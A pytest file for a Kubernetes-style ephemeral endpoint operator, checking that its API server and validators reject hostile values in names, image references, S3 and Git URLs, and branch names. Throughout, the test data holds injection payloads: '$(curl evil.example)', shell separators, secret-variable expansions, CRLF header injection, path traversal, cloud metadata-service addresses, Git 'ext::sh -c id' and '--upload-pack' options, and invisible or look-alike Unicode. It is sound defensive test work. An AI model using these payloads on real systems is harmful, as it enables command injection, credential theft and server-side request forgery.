"""Hostile words in every field that becomes a name, an address or a word of a command: the API server refuses them."""

from collections.abc import Callable
from typing import Any

import pytest

from ephemeral_endpoints.api.v1alpha1.endpoint import EphemeralEndpoint
from ephemeral_endpoints.api.v1alpha1.endpoint_class import EphemeralEndpointClass

Body = dict[str, Any]

REGISTRY = "123456789012.dkr.ecr.us-east-1.amazonaws.com"
INSTANCES: Body = {"type": "ml.m5.large"}
SCHEDULED: Body = {"name": "day", "schedule": "rate(1 day)", "minCount": 1, "maxCount": 1}

HOSTILE = {
    "a command in a command": "$(curl evil.example)",
    "another one": "`id`",
    "the end of a command": "a;id",
    "a pipe": "a|id",
    "an and": "a&&id",
    "a redirection": "a>b",
    "a variable": "$HOME",
    "a variable of Kubernetes": "$(AWS_SECRET_ACCESS_KEY)",
    "a variable of GitHub": "${{ secrets.TOKEN }}",
    "a template": "{{ .Values }}",
    "another template": "{% include 'x' %}",
    "the end of a string": 'a"b',
    "the end of another string": "a'b",
    "the end of a JSON value": 'a"},{"b":"',
    "the next key of YAML": "a: {b: c}",
    "another line": "a\nb",
    "the next header": "a\r\nX-Evil: 1",
    "a NUL": "a\0b",
    "a colour": "a\x1b[31mb",
    "the folder above": "../a",
    "the folder above, within": "a/../../b",
    "the folder above, encoded": "a%2e%2e%2fb",
    "a backslash": "a\\b",
    "a blank": "a b",
    "an option": "--upload-pack=id",
    "a letter that looks like another": "\u0430cme",
    "writing from right to left": "a\u202eb",
    "a letter that nobody sees": "a\u200bb",
    "a fullwidth letter, which some fold": "\uff41",
    "a user before the host": "a@169.254.169.254",
    "very long": "a" * 100_000,
}
"""By what they try."""

FIELDS = {
    "className": ("className", "{}"),
    "Git repository": ("source.repository", "acme/{}"),
    "Git owner": ("source.repository", "{}/wine"),
    "fork": ("source.headRepository", "{}/wine"),
    "commit": ("source.revision", "1f0c2a9{}"),
    "image's repository": ("model.image", f"{REGISTRY}/a{{}}:1"),
    "image's registry": ("model.image", f"{{}}{REGISTRY}/models:1"),
    "image's tag": ("model.image", f"{REGISTRY}/models:1{{}}"),
    "archive's bucket": ("model.dataUrl", "s3://acme{}/b.tar.gz"),
    "copied image": ("model", "quay.io/acme/{}:1"),
    "copied image's registry": ("model", "{}quay.io/acme/model:1"),
    "build's folder": ("model", "context:a/{}"),
    "Dockerfile": ("model", "dockerfile:a/{}"),
    "stage": ("model", "target:{}"),
    "platform": ("model", "platform:{}"),
    "build's secret": ("model", "secrets:{}"),
    "build argument's name": ("model", "arguments:{}"),
    "variable's name": ("model.environment", "{}"),
    "path": ("api.path", "/a{}"),
    "authentication": ("api.auth.type", "{}"),
    "ttl": ("lifecycle.ttl", "1h{}"),
    "instance type": ("serving.instances", "ml.m5.{}"),
    "variant": ("serving.variants", "{}"),
    "scheduled action": ("serving", "name:{}"),
    "schedule": ("serving", "schedule:rate(1 day){}"),
    "time zone": ("serving", "timezone:Europe/{}"),
    "folder of captured requests": ("capture", "s3://acme{}/b"),
    "folder of queued requests": ("serving", "s3Uri:s3://acme/{}"),
    "topic": ("serving", "errorTopicArn:arn:aws:sns:us-east-1:123456789012:a{}"),
}

BENIGN = {
    "commit": "0",
    "image's registry": "",
    "copied image's registry": "",
    "platform": "linux/amd64",
    "authentication": "Token",
    "ttl": "1m",
    "instance type": "large",
    "schedule": "",
    "time zone": "Berlin",
}
"""What a field takes, where that is not the letter a: by it is seen that the word alone is refused."""

HARMLESS = {
    ("path", "the folder above"): "it makes /a../a of it, whose dots are part of a name",
    ("folder of queued requests", "the end of another string"): "S3 takes an apostrophe, and no shell or JSON sees it",
    ("folder of queued requests", "an option"): "it stands within the URL",
    ("folder of queued requests", "a user before the host"): "it stands behind the bucket",
}
"""What a field takes all the same, and why that does no harm."""


def _spec(field: str, word: str) -> Body:
    """A spec that is valid but for the word."""
    path, form = FIELDS[field]
    value: Any = form.format(word)
    spec: Body = {
        "source": {"repository": "acme/wine", "revision": "1f0c2a9d" * 5},
        "model": {"image": f"{REGISTRY}/models:1"},
    }
    match path:
        case "model":
            spec["model"] = _made(field, value)
        case "model.environment":
            value = {value: "x"}
        case "serving.instances":
            value = {"type": value}
        case "serving.variants":
            value = [{"name": value}]
        case "serving":
            spec["serving"] = _served(value)
        case "capture":
            spec["serving"] = {"instances": INSTANCES}
            value = {"s3Uri": value}
    if path not in {"model", "serving"}:
        *parents, last = path.split(".")
        part = spec
        for name in parents:
            part = part.setdefault(name, {})
        part[last] = value
    return spec


def _made(field: str, value: str) -> Body:
    if field.startswith("copied"):
        return {"copy": {"image": value}}
    name, _, word = value.partition(":")
    if name == "secrets":
        return {"build": {name: [word]}}
    return {"build": {name: {word: "x"} if name == "arguments" else word}}


def _served(value: str) -> Body:
    name, _, word = value.partition(":")
    if name in {"s3Uri", "errorTopicArn"}:
        return {"instances": INSTANCES, "asynchronous": {"s3Uri": "s3://acme/queue", name: word}}
    scaling = {"maxCount": 1, "schedule": [SCHEDULED | {name: word}]}
    return {"instances": INSTANCES | {"autoscaling": scaling}}


@pytest.mark.parametrize("field", FIELDS)
def test_no_hostile_word_passes(field: str, endpoint: Body, create: Callable[..., Body]) -> None:
    create(endpoint | {"spec": _spec(field, BENIGN.get(field, "a"))})
    accepted = []
    for what, word in HOSTILE.items():
        body = endpoint | {"spec": _spec(field, word)}
        if _passes(lambda body=body: create(body)) and (field, what) not in HARMLESS:  # type: ignore[misc]
            accepted.append(what)
    assert accepted == []


@pytest.mark.parametrize(
    "name",
    [
        pytest.param("feature/x\r\n::set-output name=token::x", id="a command of a CI log"),
        pytest.param("main\x1b[2K\x1b[1A", id="a terminal's line is erased"),
        pytest.param("main\u202etxt.exe", id="writing from right to left"),
        pytest.param("ma\u200bin", id="a letter that nobody sees"),
        pytest.param("main\u2028", id="the end of a line to JavaScript"),
        pytest.param("main\x85", id="the end of a line to some"),
        pytest.param("main\0", id="a NUL"),
    ],
)
def test_a_branch_has_only_what_people_can_see(name: str, endpoint: Body, create: Callable[..., Body]) -> None:
    """Whoever may open a pull request names its branch."""
    endpoint["spec"]["source"]["branch"] = name
    with pytest.raises(ValueError, match=r"spec\.source\.branch.*must not contain control or invisible characters"):
        create(endpoint)
    with pytest.raises(ValueError, match="must not contain control or invisible characters"):
        EphemeralEndpoint.model_validate(endpoint)


def test_a_branch_may_be_in_any_script(endpoint: Body, create: Callable[..., Body]) -> None:
    endpoint["spec"]["source"]["branch"] = "функція/機械学習/خاصية-🙂 $(id) `id`"
    assert EphemeralEndpoint.model_validate(create(endpoint)).spec.source.branch


@pytest.mark.parametrize(
    ("path", "value", "message"),
    [
        pytest.param(
            "environment", {"A": "b\0c"}, "values must not contain NUL characters", id="no process can be given it"
        ),
        pytest.param("dataUrl", "s3://acme/a\x1b[31m.tar.gz", "must be the S3 URL", id="a colour in a key"),
        pytest.param("dataUrl", "s3://acme/a/../b/c.tar.gz", "the segments '.' and '..'", id="out of a team's folder"),
        pytest.param("dataUrl", "s3://acme/a/./c.tar.gz", "the segments '.' and '..'", id="another name of a folder"),
        pytest.param("dataUrl", "s3://169.254.169.254/../x", "must be the S3 URL", id="no archive at all"),
        pytest.param("dataUrl", "http://169.254.169.254/x.tar.gz", "must be the S3 URL", id="the metadata service"),
        pytest.param("dataUrl", "s3://u@169.254.169.254/x.tar.gz", "must be the S3 URL", id="with a user in front"),
        pytest.param("dataUrl", "file:///etc/x.tar.gz", "must be the S3 URL", id="a file"),
    ],
)
def test_both_refuse_of_a_model(
    path: str, value: object, message: str, endpoint: Body, create: Callable[..., Body]
) -> None:
    endpoint["spec"]["model"][path] = value
    with pytest.raises(ValueError, match=message):
        create(endpoint)
    with pytest.raises(ValueError, match=message):
        EphemeralEndpoint.model_validate(endpoint)


@pytest.mark.parametrize(
    "url",
    [
        pytest.param("https://github.com@169.254.169.254", id="a user that looks like the host"),
        pytest.param("https://github.com:x@169.254.169.254", id="with a password"),
        pytest.param("https://[fd00:ec2::254]", id="the metadata service by IPv6"),
        pytest.param("http://169.254.169.254", id="no TLS, as the metadata service has none"),
        pytest.param("https://github.com?x=", id="a query swallows the repository"),
        pytest.param("https://github.com#", id="a fragment swallows the repository"),
        pytest.param("https://github.com\\@evil.example", id="a backslash, which some take for a slash"),
        pytest.param("ssh://git@github.com", id="another program"),
        pytest.param("ext::sh -c id", id="a command"),
        pytest.param("--upload-pack=id", id="an option"),
    ],
)
def test_where_commits_come_from_is_one_host_and_https(
    url: str, endpoint_class: Body, create: Callable[..., Body]
) -> None:
    """It is the class that says where, and only the repository comes from the object."""
    endpoint_class["spec"]["builds"] = {"codeBuild": {"project": "builds"}, "gitUrl": url}
    with pytest.raises(ValueError, match="must be the base URL of the repositories"):
        create(endpoint_class)
    with pytest.raises(ValueError, match="must be the base URL of the repositories"):
        EphemeralEndpointClass.model_validate(endpoint_class)


@pytest.mark.parametrize("name", ["../x", "a%2e", "A", "a_b", "a\nb", "-a", "a" * 254, "\u0430cme", "a;id"])
def test_the_name_of_an_object_is_a_dns_name(name: str, endpoint: Body, create: Callable[..., Body]) -> None:
    """Names become parts of tags, paths and descriptions."""
    with pytest.raises(ValueError, match=r"metadata\.name"):
        create(endpoint | {"metadata": {"name": name}})


def _passes(submit: Callable[[], object]) -> bool:
    try:
        submit()
    except ValueError:
        return False
    return True
